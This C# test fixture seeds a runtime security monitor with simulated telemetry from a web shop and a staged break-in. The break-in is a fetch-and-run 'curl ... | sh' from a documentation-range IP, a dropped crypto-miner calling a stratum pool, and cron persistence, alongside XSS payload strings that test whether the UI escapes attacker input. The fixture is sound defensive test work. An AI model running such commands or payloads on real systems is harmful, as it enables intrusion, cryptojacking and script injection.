using Grpc.Net.Client;
using Runtime.V1;

namespace Runtime.EndToEnd.Tests.Fleet;

/// <summary>
/// Four days of a shop, and a break-in at their end: "shop/web" is known well, "shop/front" has just got a new image, "shop/api" is young, "shop/batch" was
/// never seen again. What the attacker names, starts and asks for is made to break out of a page.
/// </summary>
internal sealed class Shop : IDisposable
{
    public const string Scope = "prod/shop/Deployment/web/app";

    /// <summary>Would run where text were taken for a page's own.</summary>
    public const string Hostile = "<img src=x onerror=window.owned=1>";
    public const string HostileBinary = "/tmp/.x/\u202Egnp.<script>window.owned=2</script>";
    public const string HostileName = "a\"><svg onload=window.owned=3>.example.com";

    private const int Hours = 96;

    // Long enough ago that the new image is not on probation any more.
    private const int RolloutAge = 40;

    // So long ago that a new image is on probation all the time, and its review open.
    private const int YoungAge = 4;
    private const string Nginx = "docker.io/library/nginx:1.27";
    private readonly List<AgentStream> _agents = [];
    private readonly DateTimeOffset _now = DateTimeOffset.UtcNow;

    /// <summary>Of a deployment that <see cref="BreakInAsync"/> made.</summary>
    public static string ScopeOf(string deployment) => $"prod/tools/Deployment/{deployment}/app";

    public async Task FillAsync(GrpcChannel channel)
    {
        var first = await OpenAsync(channel, "node-1");
        var second = await OpenAsync(channel, "node-2");
        await second.TellAsync(Status(isWhole: false));
        await first.TellAsync(Status(isWhole: true));
        (await OpenAsync(channel, "node-3")).Dispose();

        var begin = _now.AddHours(-Hours);
        Replica[] web = [.. Enumerable.Range(1, 3).Select(number => new Replica("shop", "web", number, Nginx, "a", begin))];
        Replica[] rolledOut = [.. Enumerable.Range(4, 2).Select(number => new Replica("shop", "web", number, Nginx, "b", _now.AddHours(-RolloutAge)))];
        IEnumerable<Replica> front = Enumerable.Range(1, 2).Select(number => new Replica("shop", "front", number, Nginx, "a", begin));
        Replica[] replicas = [.. web, .. rolledOut, .. front, new("shop", "front", 3, Nginx, "b", _now.AddHours(-YoungAge))];
        var api = new Replica("shop", "api", 1, "registry.example.com/api:3", "a", _now.AddHours(-YoungAge));
        for (var hour = 0; hour < Hours; hour++)
        {
            var at = begin.AddHours(hour);
            var rows = new RowBatch(at);
            foreach (var replica in replicas.Where(replica => replica.Started <= at.AddMinutes(1)))
            {
                Serve(rows, replica, isStart: at - replica.Started < TimeSpan.FromMinutes(59) && at >= replica.Started.AddMinutes(-1), hour);
            }

            await first.SendAsync(rows);
            if (hour >= Hours - YoungAge)
            {
                var young = new RowBatch(at);
                Young(young, api, hour);
                await second.SendAsync(young);
            }
        }

        await AttackAsync(first, web[1]);
    }

    /// <summary>Another break-in, into a deployment of its own: for tests that end the incident.</summary>
    /// <param name="program">Null: one that no other has.</param>
    public async Task BreakInAsync(string deployment, string? program = null)
    {
        program ??= deployment;
        var replica = new Replica("tools", deployment, 1, "registry.example.com/tool:1", "a", DateTimeOffset.UtcNow.AddHours(-1));
        var rows = new RowBatch(DateTimeOffset.UtcNow);
        var container = rows.Container(replica);
        var server = rows.Process(container, replica.FirstPid, 0, ["server"], "/app/server", ProcessFlag.NetworkFacing);
        rows.Exec(rows.Process(container, replica.FirstPid + 1, server, [program, "-x"], "/memfd:" + program, ProcessFlag.Memfd | ProcessFlag.NetworkFacing));
        await _agents[0].SendAsync(rows);
    }

    public void Dispose() => _agents.ForEach(agent => agent.Dispose());

    private async Task<AgentStream> OpenAsync(GrpcChannel channel, string node)
    {
        var agent = await AgentStream.OpenAsync(channel, node);
        if (node != "node-3")
        {
            _agents.Add(agent);
        }

        return agent;
    }

    private static void Serve(RowBatch rows, Replica replica, bool isStart, int hour)
    {
        var container = rows.Container(replica);
        var entry = rows.Process(container, replica.FirstPid, 0, ["/bin/sh", "/docker-entrypoint.sh"], phase: Phase.Init);
        var nginx = rows.Process(container, replica.FirstPid + 1, entry, ["nginx", "-g", "daemon off;"], "/usr/sbin/nginx", ProcessFlag.NetworkFacing);
        if (isStart)
        {
            rows.Exec(entry);
            rows.Exec(rows.Process(container, replica.FirstPid + 2, entry, ["chown", "nginx", "/var/cache/nginx"], "/bin/chown", phase: Phase.Init));
            rows.Exec(nginx);
            rows.Listen(nginx, 80);
        }

        rows.Write(nginx, "/var/log/nginx/access.log", 1);
        rows.Connect(nginx, "10.9.8.7", 5432, 2, 30);
        rows.Connect(nginx, "10.9.8.21", 6379, 3, 400);
        rows.Connect(nginx, "203.0.113.40", 443, 4, 3, "api.payments.example.com");

        // Uploads: a name for each, as programs make them up.
        var names = new Random(replica.Number * 1000 + hour);
        for (var upload = 0; upload < 4; upload++)
        {
            rows.Write(nginx, $"/srv/up/{new string([.. Enumerable.Range(0, 14).Select(_ => (char)('a' + names.Next(26)))])}.jpg", 5 + upload);
        }
    }

    private static void Young(RowBatch rows, Replica replica, int hour)
    {
        var container = rows.Container(replica);
        var java = rows.Process(container, replica.FirstPid, 0, ["java", "-jar", "/app/api.jar"], "/usr/lib/jvm/bin/java", ProcessFlag.NetworkFacing);
        if (hour == Hours - YoungAge)
        {
            rows.Exec(java);
            rows.Listen(java, 8080);
        }

        rows.Connect(java, $"10.9.8.{hour}", 5432, 1);
        rows.Write(java, $"/tmp/hsperfdata_app/{hour}", 2);
    }

    private async Task AttackAsync(AgentStream agent, Replica replica)
    {
        var rows = new RowBatch(_now.AddMinutes(-12));
        var container = rows.Container(replica);
        var pid = replica.FirstPid + 500;
        var nginx = rows.Process(container, replica.FirstPid + 1, 0, ["nginx", "-g", "daemon off;"], "/usr/sbin/nginx", ProcessFlag.NetworkFacing);
        var shell = rows.Process(container, pid, nginx, ["sh", "-c", "curl -s http://203.0.113.66/i.sh | sh # " + Hostile], "/bin/sh", ProcessFlag.NetworkFacing | ProcessFlag.StdinSocket | ProcessFlag.StdoutSocket);
        var curl = rows.Process(container, pid + 1, shell, ["curl", "-s", "http://203.0.113.66/i.sh"], "/usr/bin/curl", ProcessFlag.NetworkFacing);
        var dropped = rows.Process(container, pid + 2, shell, [HostileBinary, "-o", "stratum+tcp://203.0.113.66:3333", Hostile], HostileBinary, ProcessFlag.UpperLayer | ProcessFlag.NetworkFacing);
        rows.Exec(shell);
        rows.Exec(curl, 1);
        rows.Connect(curl, "203.0.113.66", 80, 1, 1, HostileName);
        rows.Write(shell, HostileBinary, 2, FileFlag.Executable | FileFlag.UpperLayer);
        rows.Exec(dropped, 3);
        rows.Connect(dropped, "203.0.113.66", 3333, 4);
        rows.Write(shell, "/etc/cron.d/x", 5);
        await agent.SendAsync(rows);
    }

    private static AgentStatus Status(bool isWhole) => new()
    {
        Hooks =
        {
            new Hook { Name = "tp_btf/sched_process_exec", Attached = true },
            new Hook { Name = "tracepoint/io_uring/io_uring_submit_req", Attached = isWhole, Loses = isWhole ? "" : "calls through io_uring", Reason = isWhole ? "" : "the kernel has no such tracepoint" },
        },
        Counters = { ["capture.exec.delivered"] = 51_233 },
        QueueLength = 12, QueueCapacity = 65_536, ResidentBytes = 84 << 20, CpuNs = 921_000_000_000, Containers = 14, Rung = 1,
        Coverage = { ["exec"] = 0.9997, ["write"] = 1 },
    };
}
